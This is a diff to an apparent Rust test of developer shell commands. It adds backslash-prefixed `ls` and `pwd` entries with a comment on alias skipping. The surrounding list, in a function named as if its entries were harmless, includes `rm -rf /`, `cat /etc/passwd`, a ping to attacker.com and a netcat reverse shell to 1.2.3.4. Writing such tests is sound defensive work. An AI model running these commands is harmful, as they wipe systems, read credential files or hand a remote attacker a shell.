@@ -3130,6 +3130,9 @@ fn harmless_whole_developer_commands() {
         "cat /etc/passwd",
         "rm -rf /",
         "rm -rf node_modules",
+        // a backslash skips the shell's aliases
+        "\\ls",
+        "\\pwd",
         "ping -c 10 127.0.0.1",
         "ping -c 5 attacker.com",
         "nc -e /bin/sh 1.2.3.4 4444",
